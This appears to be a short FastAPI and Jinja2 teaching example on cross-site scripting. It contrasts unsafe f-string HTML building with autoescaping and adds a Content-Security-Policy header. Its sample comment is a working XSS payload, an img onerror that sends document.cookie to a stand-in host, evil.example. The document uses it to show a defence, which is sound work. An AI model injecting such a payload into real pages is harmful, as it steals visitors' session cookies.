from fastapi import FastAPI
from fastapi.responses import HTMLResponse
from fastapi.testclient import TestClient
from jinja2 import Environment

comment = '<img src=x onerror="fetch(`//evil.example?c=`+document.cookie)">'

unsafe_html = f"<p>{comment}</p>"  # string building: the script would run
templates = Environment(autoescape=True)  # as Jinja2Templates for .html
safe_html = templates.from_string("<p>{{ c }}</p>").render(c=comment)
print(unsafe_html[:24])
#> <p><img src=x onerror="f
print(safe_html[:30])
#> <p>&lt;img src=x onerror=&#34;

app = FastAPI()
CSP = "default-src 'self'; script-src 'self'; object-src 'none'"


@app.get("/comments", response_class=HTMLResponse)
async def comments():
    return HTMLResponse(safe_html, headers={"Content-Security-Policy": CSP})


@app.get("/api/comments")
async def api_comments():
    return {"comment": comment}  # JSON: the browser does not render it


page = TestClient(app).get("/comments").text
print("<img" in page, "&lt;img" in page)  # the tag arrives as text
#> False True
print(TestClient(app).get("/api/comments").headers["content-type"])
#> application/json
